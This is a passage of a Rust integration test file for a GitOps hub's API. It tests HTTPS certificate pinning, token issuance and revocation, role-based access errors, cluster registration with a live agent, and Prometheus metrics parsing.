//! The hub's API as clients meet it: over real HTTPS on loopback with a
//! certificate from the hub's CA, beside a real QUIC link with a real agent.
//! Tokens, clusters, health and metrics, JSON errors, and no secret in any
//! response or log line.

// Test helpers may unwrap: a panic is the failure report.
#![allow(clippy::unwrap_used)]

mod login_flood;

use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use flotilla_agent::link::{AgentConfig, Applier, ApplyReport};
use flotilla_common::bundle::Bundle;
use flotilla_common::message::{BundleOutcome, Operation, OperationPhase, Status};
use flotilla_common::model::{Health, SyncStatus, Timestamp};
use flotilla_hub::client::{Trust, http_client};
use flotilla_hub::link::{Link, LinkConfig};
use flotilla_hub::refresh::Refresher;
use flotilla_hub::render::{Renderer, Tools};
use flotilla_hub::server::{ApiTls, Config, Server};
use flotilla_hub::source::RepoCache;
use flotilla_hub::store::{ClusterRecord, Store};
use link_fixture::{RunningAgent, crypto, facts};
use serde_json::{Value, json};
use tracing_subscriber::filter::LevelFilter;
use tracing_subscriber::layer::SubscriberExt as _;
use tracing_subscriber::{Registry, reload};

use crate::support::link as link_fixture;
use crate::support::source as source_fixture;

const ADMIN_PASSWORD: &str = "admin-pw-7c1d9e";

struct Running {
    _dir: tempfile::TempDir,
    store: Store,
    server: Option<Server>,
    link: Arc<Link>,
    quic: SocketAddr,
    fingerprint: String,
    http: reqwest::Client,
    base: String,
}

async fn start_with(tls: ApiTls) -> Running {
    start_with_policy(tls, "").await
}

/// A hub whose policy has `extra` lines besides the usual ones.
async fn start_with_policy(tls: ApiTls, extra: &str) -> Running {
    crypto();
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("db")).unwrap();
    let cache = RepoCache::new(dir.path().join("repos")).unwrap();
    let refresher = Refresher::new(store.clone(), cache, Renderer::new(Tools::from_env()))
        .await
        .unwrap();
    let mut link_config = LinkConfig::new("127.0.0.1:0".parse().unwrap());
    link_config.metrics = refresher.metrics();
    let link = Arc::new(Link::start(store.clone(), link_config).await.unwrap());
    let quic = link.local_addr().unwrap();
    let fingerprint = link.ca_fingerprint();
    let mut policy = flotilla_hub::rbac::Policy::parse(
        &format!(
            "g, viewer, role:readonly\np, role:deployer, applications, *, shop/*, allow\n{extra}"
        ),
        None,
        "test policy",
    )
    .unwrap();
    policy.add_grouping("admin", "role:admin");
    let plain = matches!(tls, ApiTls::Plain);
    let config = Config {
        listen: "127.0.0.1:0".parse().unwrap(),
        webhook_secret: None,
        policy,
        admin_password: Some(ADMIN_PASSWORD.to_owned()),
        tls,
        link: Some(link.clone()),
        agent_address: Some(quic.to_string()),
    };
    let server = Server::start(config, store.clone(), refresher)
        .await
        .unwrap();
    let scheme = if plain { "http" } else { "https" };
    let base = format!("{scheme}://127.0.0.1:{}", server.local_addr().port());
    let http = http_client(&Trust::pinned(&fingerprint).unwrap()).unwrap();
    Running {
        _dir: dir,
        store,
        server: Some(server),
        link,
        quic,
        fingerprint,
        http,
        base,
    }
}

async fn start() -> Running {
    start_with(ApiTls::HubCa).await
}

impl Running {
    /// One request; the status and the body as JSON (`Value::String` when the
    /// body is not JSON).
    async fn call(
        &self,
        method: &str,
        path: &str,
        token: Option<&str>,
        body: &str,
    ) -> (u16, Value) {
        let (status, _, json) = self.call_raw(method, path, token, body).await;
        (status, json)
    }

    async fn call_raw(
        &self,
        method: &str,
        path: &str,
        token: Option<&str>,
        body: &str,
    ) -> (u16, String, Value) {
        let mut request = self
            .http
            .request(method.parse().unwrap(), format!("{}{path}", self.base));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        if !body.is_empty() {
            request = request
                .header("content-type", "application/json")
                .body(body.to_owned());
        }
        let response = request.send().await.unwrap();
        let status = response.status().as_u16();
        let content_type = response
            .headers()
            .get("content-type")
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default();
        let text = response.text().await.unwrap();
        let json = serde_json::from_str(&text).unwrap_or(Value::String(text));
        (status, content_type, json)
    }

    async fn login(&self, user: &str, password: &str) -> String {
        let body = json!({"username": user, "password": password}).to_string();
        let (status, json) = self.call("POST", "/api/v1/session", None, &body).await;
        assert_eq!(status, 200, "{json}");
        json["token"].as_str().unwrap().to_owned()
    }

    async fn admin(&self) -> String {
        self.login("admin", ADMIN_PASSWORD).await
    }

    async fn create_account(&self, admin: &str, name: &str, password: &str, groups: &[&str]) {
        let body = json!({"name": name, "password": password, "groups": groups}).to_string();
        let (status, json) = self
            .call("POST", "/api/v1/accounts", Some(admin), &body)
            .await;
        assert_eq!(status, 201, "{json}");
    }

    async fn stop(mut self) {
        if let Some(server) = self.server.take() {
            server.stop().await;
        }
        Link::stop_shared(self.link, Duration::from_secs(10)).await;
    }
}

fn assert_json_error(status: u16, json: &Value, want_status: u16, want_code: u64) {
    assert_eq!(status, want_status, "{json}");
    assert_eq!(json["code"], want_code, "{json}");
    let message = json["message"].as_str().unwrap_or_default();
    assert!(!message.is_empty(), "{json}");
    assert_eq!(json["error"], json["message"], "{json}");
}

const SHOP_PROJECT: &str = "apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata: {name: shop, namespace: argocd}
spec:
  sourceRepos: ['*']
  destinations: [{server: '*', namespace: '*'}]
  roles:
    - name: ci
      description: the pipeline
      policies:
        - p, proj:shop:ci, applications, get, shop/*, allow
        - p, proj:shop:ci, applications, sync, shop/*, allow
";

#[tokio::test(flavor = "multi_thread")]
async fn the_api_is_https_from_the_hub_ca_and_a_wrong_pin_is_refused() {
    let hub = start().await;
    let (status, json) = hub.call("GET", "/healthz", None, "").await;
    assert_eq!(status, 200, "{json}");

    let mut wrong = hub.fingerprint.clone().into_bytes();
    wrong[0] = if wrong[0] == b'0' { b'1' } else { b'0' };
    let wrong = http_client(&Trust::pinned(std::str::from_utf8(&wrong).unwrap()).unwrap()).unwrap();
    let refused = wrong.get(format!("{}/healthz", hub.base)).send().await;
    assert!(refused.is_err(), "a wrong pin must fail the handshake");

    // The system's roots do not know the hub's private CA.
    let system = http_client(&Trust::default()).unwrap();
    assert!(
        system
            .get(format!("{}/healthz", hub.base))
            .send()
            .await
            .is_err()
    );

    // --insecure connects, as argocd --insecure does.
    let insecure = http_client(&Trust {
        ca_fingerprint: None,
        insecure: true,
    })
    .unwrap();
    let ok = insecure
        .get(format!("{}/healthz", hub.base))
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status().as_u16(), 200);

    // Plain HTTP on the HTTPS port gets no answer.
    let plain = reqwest::Client::new()
        .get(hub.base.replace("https://", "http://") + "/healthz")
        .timeout(Duration::from_secs(5))
        .send()
        .await;
    assert!(plain.is_err() || plain.unwrap().status().as_u16() != 200);
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn plain_http_is_served_on_loopback_and_refused_elsewhere() {
    let hub = start_with(ApiTls::Plain).await;
    let response = reqwest::Client::new()
        .get(format!("{}/healthz", hub.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);

    // An address other machines reach is refused before anything binds.
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("db")).unwrap();
    let cache = RepoCache::new(dir.path().join("repos")).unwrap();
    let refresher = Refresher::new(store.clone(), cache, Renderer::new(Tools::from_env()))
        .await
        .unwrap();
    let config = Config {
        listen: "192.0.2.10:8080".parse().unwrap(),
        webhook_secret: None,
        policy: flotilla_hub::server::default_policy(),
        admin_password: None,
        tls: ApiTls::Plain,
        link: None,
        agent_address: None,
    };
    let refused = Server::start(config, store, refresher).await;
    let message = format!("{:#}", anyhow::Error::from(refused.err().unwrap()));
    assert!(message.contains("--plain-http"), "{message}");
    assert!(message.contains("192.0.2.10:8080"), "{message}");
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provided_certificate_is_served_and_pinned_by_its_own_fingerprint() {
    crypto();
    let dir = tempfile::tempdir().unwrap();
    let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ED25519).unwrap();
    let cert = rcgen::CertificateParams::new(vec!["127.0.0.1".to_owned()])
        .unwrap()
        .self_signed(&key)
        .unwrap();
    let cert_path = dir.path().join("api.crt");
    let key_path = dir.path().join("api.key");
    std::fs::write(&cert_path, cert.pem()).unwrap();
    std::fs::write(&key_path, key.serialize_pem()).unwrap();
    let hub = start_with(ApiTls::Files {
        cert: cert_path,
        key: key_path.clone(),
    })
    .await;
    let fingerprint = flotilla_hub::ca::fingerprint(cert.der());
    let pinned = http_client(&Trust::pinned(&fingerprint).unwrap()).unwrap();
    let response = pinned
        .get(format!("{}/healthz", hub.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    hub.stop().await;

    // A key file that is not PEM is named in the error.
    std::fs::write(&key_path, "not a key").unwrap();
    let store_dir = tempfile::tempdir().unwrap();
    let store = Store::open(&store_dir.path().join("db")).unwrap();
    let cache = RepoCache::new(store_dir.path().join("repos")).unwrap();
    let refresher = Refresher::new(store.clone(), cache, Renderer::new(Tools::from_env()))
        .await
        .unwrap();
    let config = Config {
        listen: "127.0.0.1:0".parse().unwrap(),
        webhook_secret: None,
        policy: flotilla_hub::server::default_policy(),
        admin_password: None,
        tls: ApiTls::Files {
            cert: dir.path().join("api.crt"),
            key: key_path.clone(),
        },
        link: None,
        agent_address: None,
    };
    let refused = Server::start(config, store, refresher).await;
    let message = format!("{:#}", anyhow::Error::from(refused.err().unwrap()));
    assert!(message.contains("api.key"), "{message}");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_error_is_json_with_a_code_401_unauthenticated_and_403_forbidden() {
    let hub = start().await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "viewer", "viewer-pw", &[]).await;
    let viewer = hub.login("viewer", "viewer-pw").await;

    let guarded: &[(&str, &str, &str)] = &[
        ("GET", "/api/v1/applications", ""),
        ("POST", "/api/v1/applications", "{}"),
        ("GET", "/api/v1/applications/default/a", ""),
        ("DELETE", "/api/v1/applications/default/a", ""),
        ("GET", "/api/v1/clusters", ""),
        ("POST", "/api/v1/clusters", r#"{"name":"east"}"#),
        ("GET", "/api/v1/clusters/east", ""),
        ("DELETE", "/api/v1/clusters/east", ""),
        ("GET", "/api/v1/repositories", ""),
        (
            "POST",
            "/api/v1/repositories",
            r#"{"url":"https://git.example/x.git"}"#,
        ),
        ("DELETE", "/api/v1/repositories/x", ""),
        ("GET", "/api/v1/projects", ""),
        ("POST", "/api/v1/projects", SHOP_PROJECT),
        ("GET", "/api/v1/projects/default", ""),
        ("POST", "/api/v1/accounts", r#"{"name":"x","password":"y"}"#),
        ("POST", "/api/v1/projects/shop/roles/ci/token", ""),
        ("GET", "/api/v1/projects/shop/roles/ci/token", ""),
        ("DELETE", "/api/v1/projects/shop/roles/ci/token/abc", ""),
        ("POST", "/api/v1/account/viewer/token", ""),
        ("GET", "/api/v1/account/viewer/token", ""),
        ("DELETE", "/api/v1/account/viewer/token/abc", ""),
        ("GET", "/api/v1/session/userinfo", ""),
        ("DELETE", "/api/v1/session", ""),
    ];
    for (method, path, body) in guarded {
        let (status, json) = hub.call(method, path, None, body).await;
        assert_json_error(status, &json, 401, 16);
        let (status, json) = hub.call(method, path, Some("not-a-token"), body).await;
        assert_json_error(status, &json, 401, 16);
        let (status, json) = hub
            .call(method, path, Some("flt_api_0000000000000000"), body)
            .await;
        assert_json_error(status, &json, 401, 16);
    }

    // What readonly may not do is 403, with Argo CD's PermissionDenied code.
    let forbidden: &[(&str, &str, &str)] = &[
        ("POST", "/api/v1/clusters", r#"{"name":"east"}"#),
        ("DELETE", "/api/v1/clusters/east", ""),
        (
            "POST",
            "/api/v1/repositories",
            r#"{"url":"https://git.example/x.git"}"#,
        ),
        ("POST", "/api/v1/projects", SHOP_PROJECT),
        ("POST", "/api/v1/accounts", r#"{"name":"x","password":"y"}"#),
        ("POST", "/api/v1/projects/shop/roles/ci/token", ""),
        ("POST", "/api/v1/account/admin/token", ""),
    ];
    for (method, path, body) in forbidden {
        let (status, json) = hub.call(method, path, Some(&viewer), body).await;
        assert_json_error(status, &json, 403, 7);
    }

    // axum's own rejections and unknown routes answer in the same shape.
    let (status, json) = hub
        .call("POST", "/api/v1/repositories", Some(&admin), "{not json")
        .await;
    assert_eq!(json["code"], 3, "{json}");
    assert!(status == 400 || status == 422, "{status}");
    let (status, json) = hub
        .call("GET", "/api/v1/nothing-here", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 404, 5);
    let (status, json) = hub
        .call("PUT", "/api/v1/applications", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 405, 12);
    let (status, json) = hub
        .call("GET", "/api/v1/clusters/nope", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 404, 5);
    let body = json!({"username": "admin", "password": "wrong"}).to_string();
    let (status, json) = hub.call("POST", "/api/v1/session", None, &body).await;
    assert_json_error(status, &json, 401, 16);
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_project_role_token_acts_as_the_role_until_revoked_or_expired() {
    let hub = start().await;
    let admin = hub.admin().await;
    let (status, json) = hub
        .call("POST", "/api/v1/projects", Some(&admin), SHOP_PROJECT)
        .await;
    assert_eq!(status, 201, "{json}");
    let (status, json) = hub
        .call("POST", "/api/v1/projects", Some(&admin), SHOP_PROJECT)
        .await;
    assert_json_error(status, &json, 409, 6);

    let (status, issued) = hub
        .call(
            "POST",
            "/api/v1/projects/shop/roles/ci/token",
            Some(&admin),
            "",
        )
        .await;
    assert_eq!(status, 201, "{issued}");
    let token = issued["token"].as_str().unwrap().to_owned();
    let id = issued["id"].as_str().unwrap().to_owned();
    assert_eq!(issued["subject"], "proj:shop:ci");

    // The bearer is proj:shop:ci with exactly the role's policies.
    let (status, me) = hub
        .call("GET", "/api/v1/session/userinfo", Some(&token), "")
        .await;
    assert_eq!(status, 200, "{me}");
    assert_eq!(me["username"], "proj:shop:ci");
    let (status, json) = hub
        .call("GET", "/api/v1/applications", Some(&token), "")
        .await;
    assert_eq!(status, 200, "{json}");
    let (status, json) = hub
        .call("GET", "/api/v1/applications/shop/web", Some(&token), "")
        .await;
    assert_json_error(status, &json, 404, 5);
    let (status, json) = hub
        .call("GET", "/api/v1/applications/default/web", Some(&token), "")
        .await;
    assert_json_error(status, &json, 403, 7);
    let (status, json) = hub
        .call(
            "POST",
            "/api/v1/clusters",
            Some(&token),
            r#"{"name":"east"}"#,
        )
        .await;
    assert_json_error(status, &json, 403, 7);
    // A role token is no account: it issues no account tokens.
    let (status, json) = hub
        .call(
            "POST",
            "/api/v1/account/proj:shop:ci/token",
            Some(&token),
            "",
        )
        .await;
    assert_json_error(status, &json, 403, 7);

    // Listed without the secret.
    let (status, list) = hub
        .call(
            "GET",
            "/api/v1/projects/shop/roles/ci/token",
            Some(&admin),
            "",
        )
        .await;
    assert_eq!(status, 200, "{list}");
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    assert_eq!(list["items"][0]["id"], id.as_str());
    assert!(!list.to_string().contains(&token));

    // A role the project does not have gets no token.
    let (status, json) = hub
        .call(
            "POST",
            "/api/v1/projects/shop/roles/nobody/token",
            Some(&admin),
            "",
        )
        .await;
    assert_json_error(status, &json, 404, 5);

    // Revoked: 401 at once.
    let (status, json) = hub
        .call(
            "DELETE",
            &format!("/api/v1/projects/shop/roles/ci/token/{id}"),
            Some(&admin),
            "",
        )
        .await;
    assert_eq!(status, 200, "{json}");
    let (status, json) = hub
        .call("GET", "/api/v1/applications", Some(&token), "")
        .await;
    assert_json_error(status, &json, 401, 16);

    // Expiring: works, then does not.
    let (status, issued) = hub
        .call(
            "POST",
            "/api/v1/projects/shop/roles/ci/token",
            Some(&admin),
            r#"{"expiresIn": 1}"#,
        )
        .await;
    assert_eq!(status, 201, "{issued}");
    let short = issued["token"].as_str().unwrap().to_owned();
    assert!(issued["expiresAtMs"].as_u64().is_some());
    let (status, _) = hub
        .call("GET", "/api/v1/applications", Some(&short), "")
        .await;
    assert_eq!(status, 200);
    tokio::time::sleep(Duration::from_millis(1200)).await;
    let (status, json) = hub
        .call("GET", "/api/v1/applications", Some(&short), "")
        .await;
    assert_json_error(status, &json, 401, 16);

    // Every create and delete is in the audit log, by who did it.
    let events = hub.store.events().unwrap();
    let tokens: Vec<_> = events
        .iter()
        .filter(|e| e.target.starts_with("token/proj:shop:ci/"))
        .map(|e| (e.actor.as_str(), e.action.as_str()))
        .collect();
    assert_eq!(
        tokens,
        [
            ("admin", "create"),
            ("admin", "delete"),
            ("admin", "create")
        ]
    );
    hub.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn account_tokens_act_as_the_account_with_its_groups() {
    let hub = start().await;
    let admin = hub.admin().await;
    hub.create_account(&admin, "deploy", "deploy-pw", &["role:deployer"])
        .await;
    hub.create_account(&admin, "viewer", "viewer-pw", &[]).await;
    let deploy = hub.login("deploy", "deploy-pw").await;
    let viewer = hub.login("viewer", "viewer-pw").await;

    // Anyone may issue their own; someone else's takes accounts/update.
    let (status, issued) = hub
        .call("POST", "/api/v1/account/deploy/token", Some(&deploy), "")
        .await;
    assert_eq!(status, 201, "{issued}");
    let token = issued["token"].as_str().unwrap().to_owned();
    let (status, json) = hub
        .call("POST", "/api/v1/account/deploy/token", Some(&viewer), "")
        .await;
    assert_json_error(status, &json, 403, 7);
    let (status, json) = hub
        .call("POST", "/api/v1/account/ghost/token", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 404, 5);

    // The token carries the account's groups: role:deployer may create shop apps
    // and nothing else.
    let (status, me) = hub
        .call("GET", "/api/v1/session/userinfo", Some(&token), "")
        .await;
    assert_eq!(status, 200);
    assert_eq!(me["username"], "deploy");
    assert_eq!(me["groups"], json!(["role:deployer"]));
    let app = "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: web}\nspec:\n  project: shop\n  source: {repoURL: 'https://git.example/shop.git', path: web, targetRevision: main}\n  destination: {name: east, namespace: web}\n";
    let (status, json) = hub
        .call("POST", "/api/v1/applications", Some(&token), app)
        .await;
    assert_eq!(status, 201, "{json}");
    let (status, json) = hub
        .call("GET", "/api/v1/repositories", Some(&token), "")
        .await;
    assert_eq!(status, 200, "{json}");
    assert_eq!(json["items"], json!([]));

    let (status, list) = hub
        .call("GET", "/api/v1/account/deploy/token", Some(&admin), "")
        .await;
    assert_eq!(status, 200);
    let id = list["items"][0]["id"].as_str().unwrap().to_owned();
    let (status, _) = hub
        .call(
            "DELETE",
            &format!("/api/v1/account/deploy/token/{id}"),
            Some(&deploy),
            "",
        )
        .await;
    assert_eq!(status, 200);
    let (status, json) = hub
        .call("GET", "/api/v1/applications", Some(&token), "")
        .await;
    assert_json_error(status, &json, 401, 16);

    // Logging out ends the session.
    let (status, _) = hub
        .call("DELETE", "/api/v1/session", Some(&deploy), "")
        .await;
    assert_eq!(status, 200);
    let (status, json) = hub
        .call("GET", "/api/v1/applications", Some(&deploy), "")
        .await;
    assert_json_error(status, &json, 401, 16);
    hub.stop().await;
}

/// Acknowledges every bundle and reports a sync that took 1.5 s.
#[derive(Clone, Copy)]
struct TimedSync;

impl Applier for TimedSync {
    async fn apply(&self, bundle: &Bundle) -> ApplyReport {
        ApplyReport {
            outcome: BundleOutcome::Applied,
            status: Some(Status {
                sequence: 0,
                app: bundle.app.clone(),
                generation: bundle.generation,
                sync: SyncStatus::Synced,
                health: Health::Healthy,
                resources: Vec::new(),
                drift: Vec::new(),
                events: Vec::new(),
                operation: Some(Box::new(Operation {
                    request_id: None,
                    started_at: Timestamp(0),
                    duration_ms: 1500,
                    phase: OperationPhase::Succeeded,
                    message: String::new(),
                    dry_run: false,
                    resources: Vec::new(),
                })),
            }),
        }
    }
}

fn agent_config(hub: &Running, cluster: &str, token: String, dir: &std::path::Path) -> AgentConfig {
    let mut config = AgentConfig::new(
        hub.quic,
        hub.fingerprint.clone(),
        cluster.to_owned(),
        dir.to_owned(),
    );
    config.token = Some(token);
    config.facts = facts(&format!("uid-{cluster}"));
    config.backoff_initial = Duration::from_millis(50);
    config.backoff_max = Duration::from_millis(500);
    config
}

#[tokio::test(flavor = "multi_thread")]
async fn clusters_are_added_listed_and_removed_through_the_api_while_the_hub_runs() {
    let hub = start().await;
    let admin = hub.admin().await;
    let body = json!({"name": "east", "labels": {"env": "prod"}}).to_string();
    let (status, added) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_eq!(status, 201, "{added}");
    let manifest = added["manifest"].as_str().unwrap();
    assert!(manifest.contains("kind: Deployment"));
    assert!(manifest.contains(&hub.fingerprint));
    assert!(manifest.contains(&hub.quic.to_string()));
    let command = added["command"].as_str().unwrap();
    let token = command
        .split_whitespace()
        .skip_while(|w| *w != "--token")
        .nth(1)
        .unwrap()
        .to_owned();
    assert!(manifest.contains(&token));
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_json_error(status, &json, 409, 6);
    let bad = json!({"name": "Not_A_Name"}).to_string();
    let (status, json) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &bad)
        .await;
    assert_json_error(status, &json, 400, 3);

    let (_, list) = hub.call("GET", "/api/v1/clusters", Some(&admin), "").await;
    assert_eq!(list["items"][0]["name"], "east");
    assert_eq!(list["items"][0]["state"], "Pending");

    // A real agent registers with the token and connects over mutual TLS.
    let agent_dir = tempfile::tempdir().unwrap();
    let mut agent = RunningAgent::start_with(
        agent_config(&hub, "east", token, agent_dir.path()),
        TimedSync,
    );
    agent.wait("connected", |s| s.connected).await;

    // A bundle pushed and a sync the agent reports are in the metrics.
    let envelope = link_fixture::sign(&hub.store, "east", "web", 1, 1, 16).await;
    hub.store
        .put_bundle("default", "web", "east", 1, &envelope.encode().unwrap())
        .await
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let samples = loop {
        let (_, _, body) = hub.call_raw("GET", "/metrics", None, "").await;
        let samples = parse_exposition(body.as_str().unwrap());
        if sample(&samples, "flotilla_sync_duration_seconds_count", &[]) == Some(1.0) {
            break samples;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no sync duration: {body}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let bucket = |le: &str| {
        sample(
            &samples,
            "flotilla_sync_duration_seconds_bucket",
            &[("le", le)],
        )
    };
    assert_eq!(bucket("1"), Some(0.0));
    assert_eq!(bucket("2.5"), Some(1.0));
    assert_eq!(
        sample(&samples, "flotilla_sync_duration_seconds_sum", &[]),
        Some(1.5)
    );
    assert_eq!(
        sample(&samples, "flotilla_bundle_pushes_total", &[]),
        Some(1.0)
    );
    assert_eq!(
        sample(&samples, "flotilla_agents_connected", &[]),
        Some(1.0)
    );
    let (status, east) = hub
        .call("GET", "/api/v1/clusters/east", Some(&admin), "")
        .await;
    assert_eq!(status, 200, "{east}");
    assert_eq!(east["state"], "Connected");
    assert_eq!(east["connected"], true);
    assert_eq!(east["labels"], json!({"env": "prod"}));
    assert_eq!(east["kubernetesVersion"], "v1.35.0");
    assert_eq!(east["agentVersion"], flotilla_common::VERSION);
    assert!(east["lastSeenMs"].as_u64().is_some());

    // Removing it closes the open connection at once, and it cannot come back.
    let (status, json) = hub
        .call("DELETE", "/api/v1/clusters/east", Some(&admin), "")
        .await;
    assert_eq!(status, 200, "{json}");
    agent.wait("disconnected", |s| !s.connected).await;
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert!(
        !agent.state.borrow().connected,
        "a revoked agent reconnected"
    );
    let (status, json) = hub
        .call("GET", "/api/v1/clusters/east", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 404, 5);
    let (status, json) = hub
        .call("DELETE", "/api/v1/clusters/east", Some(&admin), "")
        .await;
    assert_json_error(status, &json, 404, 5);
    let audited: Vec<_> = hub
        .store
        .events()
        .unwrap()
        .into_iter()
        .filter(|e| e.target == "cluster/east")
        .map(|e| e.action)
        .collect();
    assert_eq!(audited, ["create", "delete"]);
    let _ = agent.stop().await;
    hub.stop().await;
}

/// One sample: metric name, labels, value.
type Sample = (String, Vec<(String, String)>, f64);

/// A strict reader of the Prometheus text format (0.0.4): every sample belongs
/// to a family declared by `# TYPE` before it, names and labels are well-formed,
/// values are floats, histogram buckets are cumulative and end in `+Inf` equal
/// to `_count`. Returns (name, labels, value) per sample.
fn parse_exposition(text: &str) -> Vec<Sample> {
    fn valid_name(name: &str) -> bool {
        let mut chars = name.chars();
        chars
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_' || c == ':')
            && chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == ':')
    }
    assert!(text.ends_with('\n'), "the exposition ends with a newline");
    let mut types: std::collections::BTreeMap<String, String> = Default::default();
    let mut samples = Vec::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("# ") {
            let mut parts = rest.splitn(3, ' ');
            let keyword = parts.next().unwrap();
            let name = parts.next().unwrap();
            assert!(valid_name(name), "bad metric name in {line:?}");
            if keyword == "TYPE" {
                let kind = parts.next().unwrap();
                assert!(
                    ["counter", "gauge", "histogram", "summary", "untyped"].contains(&kind),
                    "{line:?}"
                );
                assert!(
                    types.insert(name.to_owned(), kind.to_owned()).is_none(),
                    "TYPE twice: {line:?}"
                );
            } else {
                assert_eq!(keyword, "HELP", "{line:?}");
            }
            continue;
        }
        assert!(!line.is_empty(), "empty line");
        let (series, value) = line.rsplit_once(' ').unwrap();
        let value: f64 = match value {
            "+Inf" => f64::INFINITY,
            "-Inf" => f64::NEG_INFINITY,
            v => v
                .parse()
                .unwrap_or_else(|_| panic!("bad value in {line:?}")),
        };
        let (name, labels) = match series.split_once('{') {
            Some((name, rest)) => {
                let body = rest.strip_suffix('}').unwrap_or_else(|| panic!("{line:?}"));
                let mut labels = Vec::new();
                let mut rest = body;
                while !rest.is_empty() {
                    let (key, after) = rest.split_once("=\"").unwrap_or_else(|| panic!("{line:?}"));
                    assert!(valid_name(key), "bad label name in {line:?}");
                    let mut value = String::new();
                    let mut chars = after.char_indices();
                    let end = loop {
                        let (i, c) = chars
                            .next()
                            .unwrap_or_else(|| panic!("unclosed label in {line:?}"));
                        match c {
                            '\\' => {
                                let (_, escaped) = chars.next().unwrap();
                                value.push(match escaped {
                                    'n' => '\n',
                                    '\\' => '\\',
                                    '"' => '"',
                                    other => panic!("bad escape \\{other} in {line:?}"),
                                });
                            }
                            '"' => break i,
                            c => value.push(c),
                        }
                    };
                    labels.push((key.to_owned(), value));
                    rest = &after[end + 1..];
                    rest = rest.strip_prefix(',').unwrap_or(rest);
                }
                (name, labels)
            }
            None => (series, Vec::new()),
        };
        assert!(valid_name(name), "bad metric name in {line:?}");
        let family = ["_bucket", "_sum", "_count"]
            .iter()
            .find_map(|suffix| {
                name.strip_suffix(suffix)
                    .filter(|base| types.get(*base).is_some_and(|t| t == "histogram"))
            })
            .unwrap_or(name);
        assert!(
            types.contains_key(family),
            "sample before its TYPE: {line:?}"
        );
        samples.push((name.to_owned(), labels, value));
    }
    for (family, kind) in &types {
        if kind != "histogram" {
            continue;
        }
        let buckets: Vec<&Sample> = samples
            .iter()
            .filter(|(n, _, _)| *n == format!("{family}_bucket"))
            .collect();
        assert!(
            buckets.windows(2).all(|w| w[0].2 <= w[1].2),
            "{family} buckets not cumulative"
        );
        let last = buckets.last().unwrap();
        assert_eq!(last.1, [("le".to_owned(), "+Inf".to_owned())]);
        let count = samples
            .iter()
            .find(|(n, _, _)| *n == format!("{family}_count"))
            .unwrap();
        assert_eq!(last.2, count.2, "{family}: +Inf bucket differs from _count");
    }
    samples
}

fn sample(samples: &[Sample], name: &str, labels: &[(&str, &str)]) -> Option<f64> {
    samples
        .iter()
        .find(|(n, l, _)| {
            n == name
                && l.len() == labels.len()
                && labels
                    .iter()
                    .all(|(k, v)| l.iter().any(|(lk, lv)| lk == k && lv == v))
        })
        .map(|(_, _, v)| *v)
}

#[tokio::test(flavor = "multi_thread")]
async fn health_readiness_and_metrics_answer_without_a_token_and_metrics_parse() {
    let hub = start().await;
    let (status, json) = hub.call("GET", "/healthz", None, "").await;
    assert_eq!((status, json["status"].as_str()), (200, Some("ok")));
    let (status, json) = hub.call("GET", "/readyz", None, "").await;
    assert_eq!(status, 200, "{json}");
    assert_eq!(json["agentLink"], hub.quic.to_string());

    // Two apps on a connected cluster: one whose bundle the agent reported
    // Synced/Healthy, one with no bundle yet (Unknown).
    let admin = hub.admin().await;
    let body = json!({"name": "east"}).to_string();
    let (status, added) = hub
        .call("POST", "/api/v1/clusters", Some(&admin), &body)
        .await;
    assert_eq!(status, 201, "{added}");
    let token = added["command"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .skip_while(|w| *w != "--token")
        .nth(1)
        .unwrap()
        .to_owned();
    let agent_dir = tempfile::tempdir().unwrap();
    let mut agent = RunningAgent::start_with(
        agent_config(&hub, "east", token, agent_dir.path()),
        flotilla_agent::link::AckOnly,
    );
    agent.wait("connected", |s| s.connected).await;
    for name in ["web", "api"] {
        let app = format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {{name: {name}}}\nspec:\n  source: {{repoURL: 'https://git.example/shop.git', path: {name}, targetRevision: main}}\n  destination: {{name: east, namespace: shop}}\n"
        );
        let (status, json) = hub
            .call("POST", "/api/v1/applications", Some(&admin), &app)
            .await;
        assert_eq!(status, 201, "{json}");
    }
    let envelope = link_fixture::sign(&hub.store, "east", "web", 1, 1, 16).await;
    hub.store
        .put_bundle("default", "web", "east", 1, &envelope.encode().unwrap())
        .await
        .unwrap();
    agent
        .wait("the bundle applied", |s| s.applied.len() == 1)
        .await;

    let synced = [("sync_status", "Synced"), ("health_status", "Healthy")];
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let (text, samples) = loop {
